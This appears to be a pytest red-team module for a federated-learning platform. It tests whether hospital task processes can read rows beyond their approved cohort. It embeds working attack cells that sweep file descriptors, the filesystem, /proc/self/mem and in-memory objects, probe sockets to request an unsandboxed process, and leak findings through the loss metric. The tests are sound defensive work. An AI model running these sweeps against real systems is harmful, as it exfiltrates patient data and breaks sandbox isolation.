"""A run sees only what it was approved for: the red team's attacks on what a task process can reach.

Each cell sweeps what it can reach for the site's rows and smuggles what it found out through the value of its
``loss`` metric (the channel that stays by design: code approval and differential privacy are its defences), so
that the test can compare it with what the run was approved for: ``loss = rows beyond its own * 1000 + rows of
its own found``. A cohort run's own rows are its cohort's; a table's rows are recognised wherever they are (a
CSV's lines, a pickle, a table in memory) by their 14 values.

The module adds two datasets to the shared federation's first hospital (``Cleveland``, restarted once): a table
whose values are tokens no other file holds (``reach-other``), and an imaging dataset of small NPZ cases
(``reach-scans``).
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from flip_core.errors import FlipError
from flip_core.util import wait_until
from flip_local.federation import restart
from flip_magics.client import FlipClient

from kit import SITES, Outcome, RedTeam, hostile, still_serves, still_trains

pytestmark = pytest.mark.integration

BIN = Path(sys.executable).parent
FIRST = SITES[0]
COHORT, WHERE = "reach-over50", "age > 50"  # names of this module's own, in the shared federation
OTHER, TOKEN = "reach-other", 9876500  # the other dataset's values: TOKEN + i, in no other file
SCANS, SCAN_CASES = "reach-scans", 40
SCAN_COHORT, SCAN_WHERE = "reach-scans-old", "age >= 60"  # the 20 older patients' cases

# What every cell here defines after TINY_CELL (definitions only: the kernel compiles the cell too).
SWEEP = r'''
import gc as _gc
import os as _os
import pickle as _pickle
import re as _re
import stat as _stat
import sys as _sys

_RUN = _re.compile(rb"[-0-9.?,]{27,}")  # where a row may be: a run of its characters, found fast
_ROW = _re.compile(rb"(?<![0-9.?,-])(?:(?:-?[0-9]+(?:\.[0-9]+)?|\?),){13}(?:-?[0-9]+(?:\.[0-9]+)?|\?)(?![0-9.?,])")
_HEART = ["age", "sex", "cp", "trestbps", "chol", "fbs", "restecg", "thalach", "exang", "oldpeak", "slope", "ca",
          "thal", "num"]
_TOKEN = _re.compile(rb"98765[0-9][0-9]")
_SYSTEM = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/sys", "/dev", "/proc", _sys.prefix, _sys.base_prefix)
_MAX = 64 << 20


def _dumpable():
    """Its own /proc/self files back in its own hands (a process that changed its user lost them): prctl."""
    import ctypes

    try:
        ctypes.CDLL(None, use_errno=True).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    except Exception:
        pass


def _key(values):
    out = []
    for value in values:
        try:
            number = float(value)
        except (TypeError, ValueError):
            number = float("nan")
        out.append(None if number != number else round(number, 3))
    return tuple(out)


def _rows_in(thing, found, depth=0):
    """Heart rows in anything: bytes (a CSV's lines, a pickle), text, a table, a container of them."""
    import pandas as pd

    if isinstance(thing, (bytes, bytearray, memoryview)):
        blob = bytes(thing)
        for run in _RUN.finditer(blob):
            for match in _ROW.finditer(run.group(0)):
                found.add(_key(match.group(0).decode().split(",")))
        found.update(("token", m) for m in _TOKEN.findall(blob))
        if blob[:1] == b"\x80" and depth < 3:
            try:
                _rows_in(_pickle.loads(blob), found, depth + 1)
            except Exception:
                pass
    elif isinstance(thing, str):
        _rows_in(thing.encode(errors="ignore"), found, depth)
    elif isinstance(thing, pd.DataFrame):
        if all(c in thing.columns for c in _HEART):
            found.update(_key(values) for values in thing[_HEART].itertuples(index=False))
        _rows_in(thing.to_csv(header=False, index=False).encode(), found, 3)  # tokens in any table
    elif isinstance(thing, (list, tuple)) and depth < 3:
        for item in thing:
            _rows_in(item, found, depth + 1)
    elif isinstance(thing, dict) and depth < 3:
        for item in list(thing.values()):
            _rows_in(item, found, depth + 1)


def _read_fd(fd):
    chunks, offset = [], 0
    while offset < _MAX:
        try:
            chunk = _os.pread(fd, 1 << 20, offset)
        except OSError:
            break
        if not chunk:
            break
        chunks.append(chunk)
        offset += len(chunk)
    return b"".join(chunks)


def _read_path(path):
    try:
        if not _stat.S_ISREG(_os.stat(path).st_mode):  # no pipe, socket or device: they block or never end
            return b""
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return _read_fd(fd)
    finally:
        _os.close(fd)


def _sweep_descriptors(found):
    """Every descriptor the process holds, read from 0, and opened again through /proc/self/fd."""
    _dumpable()
    try:
        names = _os.listdir("/proc/self/fd")
    except OSError:
        names = [str(fd) for fd in range(1024)]  # every number a descriptor may have
    for name in names:
        try:
            if _stat.S_ISREG(_os.fstat(int(name)).st_mode):
                _rows_in(_read_fd(int(name)), found)
        except OSError:
            pass
        _rows_in(_read_path("/proc/self/fd/" + name), found)


def _sweep_paths(found, roots):
    """Every file under every folder it can list (the system's and the installation's aside)."""
    for root in roots:
        for folder, subfolders, files in _os.walk(root):
            subfolders[:] = [s for s in subfolders if not _os.path.join(folder, s).startswith(_SYSTEM)]
            for name in files:
                _rows_in(_read_path(_os.path.join(folder, name)), found)
    _dumpable()
    try:
        names = _os.listdir("/proc/self")
    except OSError:
        names = []
    for name in names:  # its own process's files, bar its memory
        if name not in ("mem", "pagemap", "clear_refs", "kcore"):
            _rows_in(_read_path("/proc/self/" + name), found)


def _sweep_objects(found):
    """Every table and every byte string in its memory, and whatever of the site's code it can ask for rows."""
    import pandas as pd
    from pathlib import Path as _Path

    for thing in _gc.get_objects():
        try:
            if isinstance(thing, pd.DataFrame):
                _rows_in(thing, found)
            elif isinstance(thing, (dict, list, tuple)):
                for item in list(thing.values() if isinstance(thing, dict) else thing):
                    if isinstance(item, (bytes, bytearray)) and len(item) > 256:
                        _rows_in(item, found)
            elif type(thing).__module__.startswith("site_agent"):
                _ask(thing, found, _Path)
        except Exception:
            pass


def _ask(thing, found, _Path):
    """Whatever a site object answers: its opener on every file it was handed, its split of every dataset."""
    fds = getattr(thing, "fds", None)
    if isinstance(fds, dict) and callable(getattr(thing, "opener", None)):
        for path in list(fds):
            try:
                _rows_in(thing.opener(_Path(path)).read(), found)
            except Exception:
                pass
    site = getattr(thing, "site", None)
    names = list(getattr(site, "datasets", None) or {})
    for name in names:
        for cohort in ("", "reach-over50"):
            try:
                _rows_in(list(thing._split(name, cohort)), found)
            except Exception:
                pass
        try:
            from site_agent.data import formats

            opener = getattr(thing, "opener", None)
            _rows_in(list(formats.load_split(site, name, opener) if opener else formats.load_split(site, name)), found)
        except Exception:
            pass


def _sweep_site(found):
    """The site's catalog by the path the process was started with, and every dataset file it names."""
    import tomllib

    words = _read_path("/proc/self/cmdline").split(b"\0")
    for word in words:
        try:
            catalog = tomllib.loads(_read_path(_os.path.join(word.decode(), "site.toml")).decode())
        except Exception:
            continue
        for entry in catalog.get("datasets", {}).values():
            _rows_in(_read_path(entry.get("path", "")), found)


def _sweep_memory(found):
    """Its own memory, writable private regions up to 64 MiB each, as bytes: what it held once and freed."""
    _dumpable()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if fields[1].startswith("rw") and end - start <= _MAX and (len(fields) < 6 or fields[5] == "[heap]"):
                try:
                    mem.seek(start)
                    _rows_in(mem.read(end - start), found, 3)
                except OSError:
                    pass


def _own(data):
    own = set()
    _rows_in([data.train, data.test], own)
    return own


def _score(found, own):
    """What the cell smuggles out: rows beyond its own (thousands), and rows of its own it found."""
    return float(len(found - own) * 1000 + len(found & own))


def _scanner_works(data):
    """The sweep recognises its own rows written as the site's file writes them."""
    seen = set()
    _rows_in(data.train.to_csv(header=False, index=False, na_rep="?").encode(), seen)
    return seen == {_key(v) for v in data.train[_HEART].itertuples(index=False)}
'''


def attack(train_body: str) -> str:
    return hostile(train_body) + SWEEP


def _register(team: RedTeam, tmp: Path) -> None:
    """At the first hospital: a table of tokens, and a small imaging dataset (NPZ cases, a patient each, an age)."""
    site_dir = team.sites_dir / FIRST
    other = tmp / "other.csv"
    other.write_text("token,value\n" + "".join(f"{TOKEN + i},{i}\n" for i in range(30)))
    scans = tmp / "scans"
    scans.mkdir()
    rows = ["image,label,patient_id,age"]
    for case in range(SCAN_CASES):
        np.savez(scans / f"case{case:02d}.npz", image=np.full((4, 4), case, dtype=np.float32))
        rows.append(f"case{case:02d}.npz,{case % 2},p{case},{40 + case}")
    (scans / "manifest.csv").write_text("\n".join(rows) + "\n")
    flip_site = [str(BIN / "flip-site"), "dataset", "add", str(site_dir)]
    subprocess.run([*flip_site, OTHER, str(other), "--format", "csv"], check=True, capture_output=True)
    subprocess.run([*flip_site, SCANS, str(scans / "manifest.csv"), "--format", "images"], check=True)
    restart(f"site-{FIRST}", team.home)  # the agent reads its catalog when it starts

    def announced() -> bool:
        sites = {s["site"]: s for s in team.client().sites()}
        return all(sites[s]["status"] == "online" for s in SITES) and {OTHER, SCANS} <= {
            d["name"] for d in sites[FIRST]["datasets"]
        }

    assert wait_until(announced, 120, 0.2), "the first hospital did not come back with its new datasets"


@pytest.fixture(scope="module")
def reach(redteam: RedTeam, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    _register(redteam, tmp_path_factory.mktemp("reach"))
    client = redteam.client()
    made = client.cohort(COHORT, "heart-disease", WHERE)
    assert made.refused == {} and set(made.totals) >= set(SITES), made.refused
    scans = client.cohort(SCAN_COHORT, SCANS, SCAN_WHERE)
    assert scans.refused == {}, scans.refused
    yield {"cohort": {site: int(made.totals[site]) for site in SITES}, "scans": int(scans.totals[FIRST])}


def losses(outcome: Outcome) -> dict[str, float]:
    """Each site's train ``loss``: what its cell smuggled out."""
    assert outcome.status == "completed", (outcome.status, outcome.said)
    assert outcome.handle is not None
    history = outcome.handle.history
    trained = history[(history.phase == "train") & (history.metric == "loss") & (history.site != "global")]
    values = {str(row.site): float(row.value) for row in trained.itertuples()}
    print(outcome.handle.run_id, "smuggled out:", values)  # shown with the test's report
    return values


def beyond_and_own(value: float) -> tuple[int, int]:
    assert value >= 0, "the cell's own check failed: its sweep did not recognise its own rows"
    return int(value) // 1000, int(value) % 1000


def test_a_task_reads_every_path_and_descriptor_it_can_reach(redteam, reach) -> None:
    """Every descriptor (read from 0, and opened again), every folder it can list (/, its cwd, the site's scratch,
    /tmp, /dev/shm, /proc/self): no row beyond its cohort, at either site."""
    source = attack(
        """
if not _scanner_works(data):
    return {"loss": -1.0}
found = set()
_sweep_descriptors(found)
cwd = _os.getcwd()
_sweep_paths(found, ["/", cwd, _os.path.dirname(cwd), "/tmp", "/dev/shm"])
return {"loss": _score(found, _own(data))}
"""
    )
    outcome = redteam.train(source, "reach-everything", cohort=COHORT)
    values = losses(outcome)
    assert set(values) == set(SITES)
    for site, value in values.items():
        beyond, _ = beyond_and_own(value)
        assert beyond == 0, f"{site}: the task read {beyond} rows beyond its cohort"
    assert outcome.leaked() == []
    still_serves(redteam)


def test_a_task_asks_its_own_session_and_its_memorys_tables_for_the_whole_table(redteam, reach) -> None:
    """gc.get_objects(): every DataFrame and byte string, and every object of the site's code asked for rows (a
    session's opener on every file it holds, its split of every dataset without the cohort, ``load_split``)."""
    source = attack(
        """
found = set()
_sweep_objects(found)
return {"loss": _score(found, _own(data))}
"""
    )
    outcome = redteam.train(source, "reach-session", cohort=COHORT)
    values = losses(outcome)
    assert set(values) == set(SITES)
    for site, value in values.items():
        beyond, own = beyond_and_own(value)
        assert beyond == 0, f"{site}: the task found {beyond} rows beyond its cohort in its memory"
        assert own > 0  # its own tables were found: the sweep works
    still_serves(redteam)


def test_a_task_scans_its_own_memory_for_rows_it_was_never_handed(redteam, reach) -> None:
    """/proc/self/mem over its heap: bytes it once held and freed (a whole file read and parsed) are still there."""
    source = attack(
        """
bait = data.train.to_csv(header=False, index=False, na_rep="?").encode()  # its own rows, as text: found below
found = set()
try:
    _sweep_memory(found)
except OSError:
    return {"loss": -2.0}  # its memory cannot be read at all: nothing in it can be found
own = _own(data)
return {"loss": _score(found, own) if len(found & own) >= len(own) // 2 else -1.0}
"""
    )
    outcome = redteam.train(source, "reach-memory", cohort=COHORT)
    values = losses(outcome)
    assert set(values) == set(SITES)
    for site, value in values.items():
        if value == -2.0:
            continue  # /proc/self/mem refused: nothing of its memory could be read
        beyond, _ = beyond_and_own(value)
        assert beyond == 0, f"{site}: {beyond} rows beyond its cohort lay in the task's memory"
    still_serves(redteam)


def test_a_cohort_run_reads_another_dataset_of_its_site(redteam, reach) -> None:
    """Through its descriptors, its session (its split of the other dataset, its opener), and the catalog by the
    path it was started with: not one value of the site's other table."""
    source = attack(
        """
found = set()
_sweep_descriptors(found)
_sweep_objects(found)
_sweep_site(found)
return {"loss": float(len([f for f in found if f and f[0] == "token"]))}
"""
    )
    values = losses(redteam.train(source, "reach-other-dataset", cohort=COHORT))
    assert values == {site: 0.0 for site in SITES}, values
    still_serves(redteam)


SCANS_CELL = (
    f"CASES = {SCAN_CASES}\n"
    """
import os
import torch

def build_model():
    return torch.nn.Linear(1, 1)

def evaluate(model, data, config):
    return {}

def train(model, data, config):
    own = {os.path.basename(c["image"]) for c in data.train + data.test}
    folder = os.path.dirname(data.train[0]["image"])
    readable = set()
    for case in range(CASES):
        name = f"case{case:02d}.npz"
        try:
            with open(os.path.join(folder, name), "rb") as fh:
                fh.read(16)
            readable.add(name)
        except OSError:
            pass
    found = set()
    _sweep_objects(found)  # any index of more cases than its own, in its memory
    indexed = {os.path.basename(str(c.get("image"))) for t in _gc.get_objects() if isinstance(t, list)
               for c in t if isinstance(c, dict) and "image" in c}
    beyond = len((readable | indexed) - own)
    return {"loss": float(beyond * 1000 + len(readable & own))}
""" + SWEEP
)


def test_an_imaging_run_opens_case_files_outside_its_cohort(redteam, reach) -> None:
    """Every case file of the dataset, guessed by name beside its own: only its cohort's cases can be opened."""
    client: FlipClient = redteam.client()
    handle = client.train(SCANS_CELL, dataset=SCANS, cohort=SCAN_COHORT, rounds=1, seed=0, name="reach-scans")
    try:
        handle.wait(180)
    except FlipError as exc:
        pytest.fail(f"the imaging run failed: {exc}")
    values = losses(Outcome(client, handle, []))
    assert set(values) == {FIRST}
    beyond, own = beyond_and_own(values[FIRST])
    assert beyond == 0, f"the imaging run reached {beyond} case files beyond its cohort"
    assert own == reach["scans"]  # every case of its cohort, and no other
    still_serves(redteam)


MARK = """
import builtins
prior = [getattr(builtins, "_reach_mark", None)]
for place in ("/tmp", "/dev/shm", _os.path.dirname(_os.getcwd())):
    try:
        prior.append(open(_os.path.join(place, "reach-mark")).read())
    except OSError:
        pass
    try:
        with open(_os.path.join(place, "reach-mark"), "w") as fh:
            fh.write(config["mark"])
    except OSError:
        pass
builtins._reach_mark = config["mark"]
return {"loss": float(sum(1 for p in prior if p is not None and p != config["mark"]))}
"""


def test_a_second_run_finds_nothing_a_first_run_left_in_its_process(redteam, reach) -> None:
    """A mark in the interpreter, /tmp, /dev/shm and the site's scratch folder: the next run's process is a fresh
    one, never the first run's."""
    first = losses(redteam.train(attack(MARK), "reach-mark-1", config={"mark": "one"}))
    second = losses(redteam.train(attack(MARK), "reach-mark-2", config={"mark": "two"}))
    assert first == second == {site: 0.0 for site in SITES}, (first, second)
    still_serves(redteam)


# A warm site forks its task processes from its zygote (site_agent.tasks.zygote), over a connection with the agent:
# its end in a task's hands would read the agent's requests (each with the descriptors of a new task process's
# channel) and answer as the zygote. The cell looks for a socket of its kind among all it holds and asks each one
# for a process of its own, the zygote's way.
ASK_FOR_A_PROCESS = """
import json as _json
import socket as _socket
request = _json.dumps({"spawn": {"argv": ["python", "-m", "site_agent.tasks.worker", "/", "--fd", "0"],
                                  "fds": [0], "env": {}, "cwd": "/"}}).encode()
found = answered = 0
for fd in range(4096):
    try:
        sock = _socket.socket(fileno=_os.dup(fd))
    except OSError:
        continue
    try:
        if sock.getsockopt(_socket.SOL_SOCKET, _socket.SO_TYPE) != _socket.SOCK_SEQPACKET:
            continue
        found += 1
        sock.settimeout(2)
        _socket.send_fds(sock, [request], [0, 1])
        if b"pid" in sock.recv(65536):
            answered += 1
    except OSError:
        pass
    finally:
        sock.close()
return {"loss": float(found + 1000 * answered)}
"""


def test_a_task_asks_every_socket_it_holds_for_a_process_outside_its_sandbox(redteam, reach) -> None:
    """No socket of the zygote's reaches a task: none of its kind, none that answers a request to fork."""
    values = losses(redteam.train(attack(ASK_FOR_A_PROCESS), "reach-zygote"))
    assert values == {site: 0.0 for site in SITES}, values
    still_serves(redteam)


def test_after_these_attacks_every_site_still_trains(redteam) -> None:
    still_trains(redteam)
